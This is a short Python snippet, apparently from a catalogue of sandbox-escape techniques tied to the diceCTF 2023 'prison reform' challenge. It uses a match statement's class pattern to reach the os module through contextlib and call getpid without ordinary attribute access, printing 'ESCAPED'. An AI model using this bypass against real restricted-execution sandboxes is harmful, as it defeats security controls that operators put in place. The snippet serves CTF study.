# technique: a class pattern reads attributes
# goal: import
# source: diceCTF 2023, prison reform
import contextlib
match contextlib:
    case object(os=object(getpid=get)):
        print('ESCAPED pid=%d' % get())
